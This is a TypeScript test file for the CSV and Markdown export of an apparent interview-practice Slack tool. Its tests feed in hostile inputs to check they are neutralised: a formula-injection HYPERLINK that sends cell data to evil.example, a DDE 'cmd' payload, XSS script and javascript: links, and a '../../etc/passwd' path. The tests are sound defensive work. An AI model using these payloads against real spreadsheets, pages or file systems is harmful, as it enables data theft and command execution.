import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCommand } from '../../../src/domain/command.ts';
import {
  csvField,
  exportFileNames,
  exportRefusal,
  mdInline,
  NOTES_CSV_HEADER,
  notesCsv,
  UTF8_BOM,
  parseSessionRef,
  sessionMarkdown,
  type ExportInput,
} from '../../../src/domain/export.ts';
import type { Note } from '../../../src/domain/notes.ts';
import type { DimensionKey, Score, Scorecard, ScorerRole } from '../../../src/domain/scorecard.ts';
import { aNote, aSession, MIN, T0 } from '../support/builders.ts';

/** A strict reader: a byte-order mark, then RFC 4180: fields, quoted fields with doubled quotes, CRLF between records. Throws on anything else. */
function readCsv(file: string): string[][] {
  // What we write starts with a byte-order mark (for Excel); a reader of UTF-8 skips it.
  if (!file.startsWith(UTF8_BOM)) throw new Error('no byte-order mark');
  const text = file.slice(UTF8_BOM.length);
  const rows: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const row: string[] = [];
    for (;;) {
      let field = '';
      if (text[i] === '"') {
        i++;
        for (;;) {
          if (i >= text.length) throw new Error('unterminated quoted field');
          if (text[i] === '"' && text[i + 1] === '"') {
            field += '"';
            i += 2;
          } else if (text[i] === '"') {
            i++;
            break;
          } else field += text[i++];
        }
      } else {
        while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
          if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted field at ${i}`);
          field += text[i++];
        }
      }
      row.push(field);
      if (text[i] === ',') {
        i++;
        continue;
      }
      if (text.slice(i, i + 2) !== '\r\n') throw new Error(`expected CRLF at ${i}`);
      i += 2;
      break;
    }
    rows.push(row);
  }
  return rows;
}

/** The part of a Markdown line left once backslash escapes are taken out: what a renderer reads as syntax. */
const unescaped = (line: string) => line.replace(/\\[\s\S]/g, ' ');
/** Markdown syntax left in text: a character CommonMark or a GitHub table reads, or an entity. */
const SYNTAX = /[\\`*_[\]<>|~#]|&#?[A-Za-z0-9]+;/;

function aCard(scorerId: string, role: ScorerRole, scores: Partial<Record<DimensionKey, Score>>, extra: Partial<Scorecard> = {}): Scorecard {
  return {
    scorerId,
    role,
    scores: Object.fromEntries(Object.entries(scores).map(([k, score]) => [k, { score, evidence: `evidence of ${scorerId} on ${k}` }])),
    redFlags: [],
    strengths: '',
    improvements: '',
    submittedAt: T0,
    updatedAt: T0,
    ...extra,
  };
}

function input(overrides: Partial<ExportInput> = {}): ExportInput {
  return { session: aSession(), notes: [], participants: [], exportedAt: T0 + 50 * MIN, ...overrides };
}

/** The lines of the note item whose first line contains `marker`, up to the blank line that ends it. */
function noteItem(markdown: string, marker: string): string[] {
  const lines = markdown.split('\n');
  const notes = lines.indexOf('## Notes');
  const start = lines.findIndex((l, i) => i > notes && l.startsWith('- ') && l.includes(marker));
  if (start < 0) throw new Error(`no note item with ${marker}`);
  const end = lines.indexOf('', start);
  return lines.slice(start, end);
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '  =cmd|" /C calc"!A0',
  '＝1+1',
  'plain, with a comma',
  'says "hi"',
  'two\nlines',
  'crlf\r\nlines',
  '',
];

describe('notesCsv', () => {
  it('writes a header row and one record per public note, by phase and then in the order written', () => {
    const notes: Note[] = [
      aNote({ id: 3, phaseIndex: 1, createdAt: T0 + 9 * MIN, text: 'b', authorId: 'UBOB', kind: 'component' }),
      aNote({ id: 1, phaseIndex: 0, createdAt: T0 + 2 * MIN, text: 'a', kind: 'requirement' }),
      aNote({ id: 2, phaseIndex: 1, createdAt: T0 + 6 * MIN, text: 'secret', visibility: 'interviewers' }),
      aNote({ id: 4, phaseIndex: 1, createdAt: T0 + 6 * MIN, text: 'c', kind: 'trade_off', visibility: 'everyone' }),
    ];
    const csv = notesCsv(notes);
    expect(csv.endsWith('\r\n')).toBe(true);
    // A byte-order mark first, so that Excel reads the file as UTF-8; then the records.
    expect(csv.startsWith(`${UTF8_BOM}phase,`)).toBe(true);
    expect(readCsv(csv)).toEqual([
      [...NOTES_CSV_HEADER],
      ['1', 'Requirements & scope', 'Requirement', 'UHOST', '2030-01-01T09:02:00.000Z', 'a'],
      ['2', 'High-level design', 'Trade-off', 'UHOST', '2030-01-01T09:06:00.000Z', 'c'],
      ['2', 'High-level design', 'Component', 'UBOB', '2030-01-01T09:09:00.000Z', 'b'],
    ]);
    expect(csv).not.toContain('secret');
  });

  it('is only the header row when there are no notes', () => {
    expect(notesCsv([])).toBe(`${UTF8_BOM}phase,phase_name,kind,author_id,created_at,text\r\n`);
  });

  it('quotes fields with commas, quotes and line breaks, doubling the quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\ronly')).toBe('"cr\ronly"');
    expect(csvField('')).toBe('');
  });

  it('keeps spreadsheets from running a cell as a formula', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-1')).toBe("'-1");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('  =1')).toBe("'  =1");
    expect(csvField('＝1')).toBe("'＝1");
    expect(csvField('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(csvField('a=1')).toBe('a=1');
    expect(csvField('2030-01-01')).toBe('2030-01-01');
  });

  it('reads back, field for field, whatever people typed (formulas disarmed)', () => {
    const notes = HOSTILE.map((text, i) => aNote({ id: 100 + i, createdAt: T0 + i * MIN, text }));
    const rows = readCsv(notesCsv(notes)).slice(1);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const [i, row] of rows.entries()) {
      expect(row).toHaveLength(NOTES_CSV_HEADER.length);
      const text = HOSTILE[i] ?? '';
      expect(row[5]).toBe(/^(?:[\t\r]|\s*[=+\-@＝])/.test(text) ? `'${text}` : text);
    }
  });

  it('holds any text in one field of one record (fuzzed)', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme-composite', maxLength: 40 }), { maxLength: 8 }), fc.array(fc.constantFrom('=', '+', '-', '@', '"', ',', '\r', '\n', '\t', ' ', 'x')), (texts, noise) => {
        const notes = texts.map((t, i) => aNote({ id: 1000 + i, createdAt: T0 + i, text: noise.join('') + t }));
        const rows = readCsv(notesCsv(notes));
        expect(rows).toHaveLength(notes.length + 1);
        for (const [i, row] of rows.slice(1).entries()) {
          const text = notes[i]?.text ?? '';
          expect(row).toHaveLength(6);
          expect(row[5] === text || row[5] === `'${text}`).toBe(true);
          expect(/^(?:[\t\r]|\s*[=+\-@＝＋－＠])/.test(row[5] ?? '')).toBe(false);
        }
      }),
    );
  });
});

describe('sessionMarkdown', () => {
  it('has the topic, the people, plan against actual time per phase, notes by phase and the reminder', () => {
    const session = aSession({
      topic: 'Design a URL shortener',
      interviewers: ['UIVAN'],
      candidateId: 'UCANDY',
      observers: ['UOLGA'],
      level: 'senior',
      status: 'ended',
      endedAt: T0 + 50 * MIN,
      endReason: null,
      phases: [
        { index: 0, plannedMs: 5 * MIN, startsAt: T0, pausedMs: 2 * MIN },
        { index: 1, plannedMs: 20 * MIN, startsAt: T0 + 7 * MIN },
        { index: 2, plannedMs: 15 * MIN, startsAt: T0 + 27 * MIN },
        { index: 3, plannedMs: 5 * MIN, startsAt: T0 + 42 * MIN },
      ],
    });
    const md = sessionMarkdown(
      input({
        session,
        participants: ['UBOB'],
        notes: [
          aNote({ phaseIndex: 0, kind: 'requirement', authorId: 'UBOB', text: 'Reads outnumber writes 100:1', createdAt: T0 + 2 * MIN }),
          aNote({ phaseIndex: 2, kind: 'trade_off', authorId: 'UIVAN', text: 'Hash vs counter', createdAt: T0 + 30 * MIN }),
          aNote({ phaseIndex: 2, kind: 'feedback', authorId: 'UIVAN', text: 'PRIVATE: weak on numbers', visibility: 'interviewers' }),
        ],
      }),
    );
    expect(md.split('\n')[0]).toBe('# Design a URL shortener');
    expect(md).toContain('Session id `sess_123-abc`');
    expect(md).toContain('- **Host:** `UHOST`');
    expect(md).toContain('- **Candidate:** `UCANDY`');
    expect(md).toContain('- **Interviewer:** `UIVAN`');
    expect(md).toContain('- **Observer:** `UOLGA`');
    expect(md).toContain('- **Level:** Senior');
    expect(md).toContain('- **Took part:** `UHOST`, `UCANDY`, `UIVAN`, `UOLGA`, `UBOB`');
    expect(md).toContain('- **Status:** ended 2030-01-01 09:50 UTC');
    expect(md).toContain('- **Time:** 45 min planned, 50 min taken');
    expect(md).toContain('- **Notes:** 2');
    expect(md).toContain('| 1 | Requirements & scope | 5 min | 7 min | 2 min |');
    expect(md).toContain('| 2 | High-level design | 20 min | 20 min | – |');
    expect(md).toContain('| 4 | Wrap-up | 5 min | 8 min | – |');
    expect(noteItem(md, 'Requirement')).toEqual(['- **Requirement** · `UBOB` · 2030-01-01 09:02 UTC  ', '  Reads outnumber writes 100:1']);
    expect(md).toMatch(/### 3\. Deep dive\n\n- \*\*Trade-off\*\* · `UIVAN`/);
    expect(md).toContain('### 2. High-level design\n\nNo notes.');
    expect(md).toContain('## Wrap-up reminder\n\n> Close with a short summary');
    expect(md).not.toContain('PRIVATE');
    expect(md).not.toContain('weak on numbers');
  });

  it('counts a live session up to the export, and a pause under way in the phase it interrupted', () => {
    // Paused 3 minutes into High-level design (minute 8), exported at minute 20.
    const session = aSession({ status: 'paused', pausedAt: T0 + 8 * MIN });
    const md = sessionMarkdown(input({ session, exportedAt: T0 + 20 * MIN }));
    expect(md).toContain('- **Status:** paused in phase 2, High-level design, when exported');
    expect(md).toContain('- **Time:** 45 min planned, 20 min so far');
    expect(md).toContain('| 1 | Requirements & scope | 5 min | 5 min | – |');
    expect(md).toContain('| 2 | High-level design | 20 min | 15 min so far | 12 min |');
    expect(md).toContain('| 3 | Deep dive | 15 min | not reached | – |');

    expect(sessionMarkdown(input({ session: aSession(), exportedAt: T0 }))).toContain('| 1 | Requirements & scope | 5 min | 0 s so far | – |');
    const running = sessionMarkdown(input({ session: aSession(), exportedAt: T0 + 30 * MIN }));
    expect(running).toContain('- **Status:** under way in phase 3, Deep dive, when exported');
    expect(running).toContain('| 3 | Deep dive | 15 min | 5 min so far | – |');
  });

  it('makes whatever people typed inert: no heading, link, image, HTML, code, table cell or list of theirs', () => {
    const hostile = [
      '# Heading',
      '<script>alert(1)</script> <img src=x onerror=alert(1)>',
      '[click](javascript:alert(1)) ![img](http://evil.example/x.png) <https://evil.example>',
      '---',
      '===',
      '1. item',
      '2) item',
      '+ item',
      '> quote',
      '| a | b |',
      '```js',
      '~~~',
      '**bold** _it_ ~~strike~~ `code`',
      '&lt;b&gt; &#60;',
      '    indented code',
      '',
      '\\',
      'trailing backslash\\',
      'bidi \u202Eevil\u202C and a NUL \u0000 and ESC \u001b[31m',
    ].join('\n');
    const session = aSession({ topic: '# <b>Topic</b> [x](y) | z\nsecond line' });
    const md = sessionMarkdown(input({ session, notes: [aNote({ text: hostile, authorId: 'UEVE' })] }));
    expect(md.split('\n')[0]).toBe('# \\# \\<b\\>Topic\\</b\\> \\[x\\](y) \\| z second line');
    const item = noteItem(md, '`UEVE`');
    // One item: its first line ours, every other line indented under it and fully escaped.
    expect(item.slice(1).every((line) => line.startsWith('  ') && line.trim() !== '')).toBe(true);
    for (const [i, line] of item.slice(1).entries()) {
      const content = i < item.length - 2 ? line.slice(2).replace(/\\$/, '') : line.slice(2);
      expect(SYNTAX.test(unescaped(content)), line).toBe(false);
      expect(/^[-+=]|^\d+[.)]/.test(content), line).toBe(false);
    }
    expect(item).toContain('  \\<script\\>alert(1)\\</script\\> \\<img src=x onerror=alert(1)\\>\\');
    expect(item).toContain('  \\---\\');
    expect(item).toContain('  1\\. item\\');
    expect(item).toContain('  \\&lt;b\\&gt; \\&\\#60;\\');
    expect(item.join('\n')).not.toMatch(/[\u202E\u0000\u001b]/);
    // "    indented code" lost its indent: it cannot start a code block.
    expect(item).toContain('  indented code\\');
  });

  it('keeps any note in its own item, whatever it holds (fuzzed)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme-composite', maxLength: 60 }), fc.array(fc.constantFrom('#', '-', '=', '1.', '>', '|', '`', '\n', '\n\n', '    ', '\\', '<', '&', '&amp;', '&#', '60;', '*', '[', ']', '!')), (text, noise) => {
        const note = `x${noise.join('')}${text}`;
        const md = sessionMarkdown(input({ notes: [aNote({ text: note, authorId: 'UFUZZ' })] }));
        const item = noteItem(md, '`UFUZZ`');
        for (const [i, line] of item.slice(1).entries()) {
          expect(line.startsWith('  ')).toBe(true);
          // Every line but the last ends in the hard break that joins it to the next.
          const content = i < item.length - 2 ? line.slice(2).replace(/\\$/, '') : line.slice(2);
          expect(content.trim()).not.toBe('');
          expect(SYNTAX.test(unescaped(content))).toBe(false);
          expect(/^[-+=]|^\d+[.)]/.test(content)).toBe(false);
        }
      }),
    );
  });

  it('shows the scorecard only once the session has ended, never its evidence', () => {
    const cards = [
      aCard('UIVAN', 'interviewer', { requirements: 3, estimation: 2 }, { redFlags: ['no_numbers'], recommendation: 'almost', strengths: 'Clear <APIs>', improvements: 'Numbers' }),
      aCard('UCANDY', 'candidate', { requirements: 4 }, { strengths: 'My # API', improvements: 'Estimates' }),
    ];
    const live = aSession({ candidateId: 'UCANDY', interviewers: ['UIVAN'] });
    const during = sessionMarkdown(input({ session: live, scorecards: cards }));
    expect(during).toContain('## Scorecard\n\nThe cards are revealed when the session ends.');
    expect(during).not.toContain('Clear');
    expect(during).not.toContain('Estimates');

    const ended = sessionMarkdown(input({ session: { ...live, status: 'ended', endedAt: T0 + 45 * MIN }, scorecards: cards }));
    expect(ended).toContain('1 panel card (`UIVAN`); self-assessment by `UCANDY`.');
    // One card: a single score agrees with nothing, so no spread.
    expect(ended).toContain('| Requirements and scope | 3 (solid) | – | 4 (strong) |');
    expect(ended).toContain('| Estimation | 2 (weak) | – | – |');
    expect(ended).toContain('| Communication | not scored | – | – |');
    expect(ended).toContain('**Red flags:** No numbers ×1');
    expect(ended).toContain('**Recommendation:** Not yet 0 · Almost there 1 · Ready 0 · Strongly ready 0');
    expect(ended).toContain('- `UIVAN`: Clear \\<APIs\\>');
    expect(ended).toContain("### In `UCANDY`'s own words");
    expect(ended).toContain('- What went well: My \\# API');
    expect(ended).toContain('### Feedback for `UCANDY`');
    expect(ended).not.toContain('evidence of');
  });

  it('leaves a scorecard kept private out, saying so: the export lands in the thread', () => {
    const cards = [aCard('UIVAN', 'interviewer', { requirements: 3 }, { strengths: 'Clear APIs', recommendation: 'almost' }), aCard('UCANDY', 'candidate', { requirements: 4 }, { strengths: 'Mine' })];
    const kept = aSession({ candidateId: 'UCANDY', interviewers: ['UIVAN'], privateScores: true, status: 'ended', endedAt: T0 + 45 * MIN });
    const md = sessionMarkdown(input({ session: kept, scorecards: cards }));
    expect(md).toContain('## Scorecard\n\nKept private: the candidate and the panel each got the scorecard privately.');
    for (const word of ['Requirements and scope |', 'Clear APIs', 'Mine', 'Recommendation', 'Feedback for']) expect(md).not.toContain(word);
    // Still blind before the end, as any other.
    // Before the end it says where they will go, not that they will be revealed here.
    const during = sessionMarkdown(input({ session: { ...kept, status: 'running', endedAt: null }, scorecards: cards }));
    expect(during).toContain('## Scorecard\n\nKept private: the candidate and the panel each get the scorecard privately when the session ends.');
    expect(during).not.toContain('revealed');
    expect(sessionMarkdown(input({ session: kept, scorecards: [] }))).toContain('## Scorecard\n\nNo cards were submitted.');
  });

  it('shows how many of the panel scored a dimension when some left it out, and a spread only from two scores', () => {
    const cards = [
      aCard('UIVAN', 'interviewer', { requirements: 3, deep_dive: 3 }),
      aCard('UOLGA', 'observer', { requirements: 4, scalability_ops: 2 }, { submittedAt: T0 + MIN }),
    ];
    const ended = aSession({ candidateId: 'UCANDY', interviewers: ['UIVAN'], status: 'ended', endedAt: T0 + 45 * MIN });
    const md = sessionMarkdown(input({ session: ended, scorecards: cards }));
    expect(md).toContain('| Requirements and scope | 3.5 (between solid and strong) | 1 | – |');
    expect(md).toContain('| Deep dive and trade-offs | 3 (solid), 1 of 2 scored | – | – |');
    expect(md).toContain('| Scalability and operations | 2 (weak), 1 of 2 scored | – | – |');
    expect(md).toContain('| Communication | not scored | – | – |');
  });

  it('names people by the names it is given, by id where it has none, and with the id too where two share a name', () => {
    const session = aSession({ candidateId: 'UCANDY', interviewers: ['UIVAN'], observers: ['UOLGA'], status: 'ended', endedAt: T0 + 45 * MIN });
    const names = new Map([
      ['UHOST', 'Alice <b>'],
      ['UCANDY', 'Candy_Bar'],
      ['UIVAN', 'sam'],
      ['UOLGA', 'sam'],
      ['UBOB', '   '],
    ]);
    const md = sessionMarkdown(
      input({
        session,
        participants: ['UBOB'],
        names,
        notes: [aNote({ phaseIndex: 0, kind: 'requirement', authorId: 'UCANDY', text: 'Reads outnumber writes', createdAt: T0 + 2 * MIN })],
        scorecards: [aCard('UIVAN', 'interviewer', { requirements: 3 }, { strengths: 'Clear' }), aCard('UCANDY', 'candidate', { requirements: 4 }, { strengths: 'Mine' })],
      }),
    );
    expect(md).toContain('- **Host:** Alice \\<b\\>');
    expect(md).toContain('- **Candidate:** Candy\\_Bar');
    expect(md).toContain('- **Interviewer:** sam (`UIVAN`)');
    expect(md).toContain('- **Observer:** sam (`UOLGA`)');
    // A blank name is no name: the id stands in.
    expect(md).toContain('- **Took part:** Alice \\<b\\>, Candy\\_Bar, sam (`UIVAN`), sam (`UOLGA`), `UBOB`');
    expect(noteItem(md, 'Requirement')[0]).toBe('- **Requirement** · Candy\\_Bar · 2030-01-01 09:02 UTC  ');
    expect(md).toContain('1 panel card (sam (`UIVAN`)); self-assessment by Candy\\_Bar.');
    expect(md).toContain('- sam (`UIVAN`): Clear');
    expect(md).toContain("### In Candy\\_Bar's own words");
    expect(md).toContain('### Feedback for Candy\\_Bar');
    expect(md).not.toMatch(/`UHOST`|`UCANDY`/);
  });

  it('says so when a live interview got no cards, and says nothing of scores for a group session', () => {
    const interview = aSession({ level: 'mid', status: 'ended', endedAt: T0 + 45 * MIN });
    expect(sessionMarkdown(input({ session: interview, scorecards: [] }))).toContain('## Scorecard\n\nNo cards were submitted.');
    expect(sessionMarkdown(input({ session: { ...interview, status: 'running', endedAt: null }, scorecards: [] }))).toContain('## Scorecard\n\nThe cards are revealed when the session ends.');
    expect(sessionMarkdown(input({ scorecards: [] }))).not.toContain('Scorecard');
  });
});

describe('mdInline', () => {
  it('puts text on one line and escapes what Markdown would read', () => {
    expect(mdInline('  a\n\tb  ')).toBe('a b');
    expect(mdInline('Reads outnumber writes 100:1')).toBe('Reads outnumber writes 100:1');
    expect(mdInline('- x')).toBe('\\- x');
  });
});

describe('who may export', () => {
  const session = aSession({ hostId: 'UHOST', interviewers: ['UIVAN'], observers: ['UOLGA'], candidateId: 'UCANDY' });
  it('lets everyone who took part export, the candidate only once the session has ended', () => {
    expect(exportRefusal(session, 'UHOST', [])).toBeNull();
    expect(exportRefusal(session, 'UIVAN', [])).toBeNull();
    expect(exportRefusal(session, 'UOLGA', [])).toBeNull();
    expect(exportRefusal(session, 'UBOB', ['UBOB'])).toBeNull();
    expect(exportRefusal(session, 'UEVE', ['UBOB'])).toBe('not_participant');
    expect(exportRefusal(session, 'UCANDY', ['UCANDY'])).toBe('candidate_live');
    expect(exportRefusal({ ...session, status: 'ended' }, 'UCANDY', ['UCANDY'])).toBeNull();
    expect(exportRefusal({ ...session, status: 'paused' }, 'UCANDY', [])).toBe('candidate_live');
  });
});

describe('naming the session', () => {
  it('reads an id, or a link to the session message or to a reply in its thread', () => {
    expect(parseSessionRef('Ab3_dE-9fGhI')).toEqual({ ok: true, value: { kind: 'id', id: 'Ab3_dE-9fGhI' } });
    expect(parseSessionRef('<https://acme.slack.com/archives/C0GENERAL/p1700000000000100>')).toEqual({
      ok: true,
      value: { kind: 'message', channelId: 'C0GENERAL', ts: '1700000000.000100' },
    });
    expect(parseSessionRef('https://acme.slack.com/archives/C0GENERAL/p1700000099000200?thread_ts=1700000000.000100&cid=C0GENERAL')).toEqual({
      ok: true,
      value: { kind: 'message', channelId: 'C0GENERAL', ts: '1700000000.000100' },
    });
    expect(parseSessionRef('<https://acme.slack.com/archives/C0GENERAL/p1700000000000100|the session>').ok).toBe(true);
    expect(parseSessionRef('<@U0BOB>').ok).toBe(false);
    expect(parseSessionRef('x').ok).toBe(false);
    expect(parseSessionRef('https://evil.example/page').ok).toBe(false);
  });

  it('is part of the command', () => {
    expect(parseCommand('export')).toEqual({ kind: 'export', ref: undefined });
    expect(parseCommand('EXPORT Ab3dE9fGhIjK')).toEqual({ kind: 'export', ref: { kind: 'id', id: 'Ab3dE9fGhIjK' } });
    expect(parseCommand('export <https://acme.slack.com/archives/C0GENERAL/p1700000000000100|the URL shortener session>')).toMatchObject({ kind: 'export', ref: { kind: 'message' } });
    expect(parseCommand('export one two')).toMatchObject({ kind: 'invalid' });
    expect(parseCommand('export ?!')).toMatchObject({ kind: 'invalid' });
  });

  it('names the files after the topic and the day', () => {
    expect(exportFileNames({ topic: 'Design a URL shortener!', createdAt: T0 })).toEqual({
      markdown: 'mockdesign-design-a-url-shortener-2030-01-01.md',
      csv: 'mockdesign-design-a-url-shortener-2030-01-01-notes.csv',
    });
    expect(exportFileNames({ topic: '../../etc/passwd', createdAt: T0 }).markdown).toBe('mockdesign-etc-passwd-2030-01-01.md');
    expect(exportFileNames({ topic: '设计', createdAt: T0 }).markdown).toBe('mockdesign-session-2030-01-01.md');
    expect(exportFileNames({ topic: 'Café résumé', createdAt: T0 }).markdown).toBe('mockdesign-cafe-resume-2030-01-01.md');
  });
});
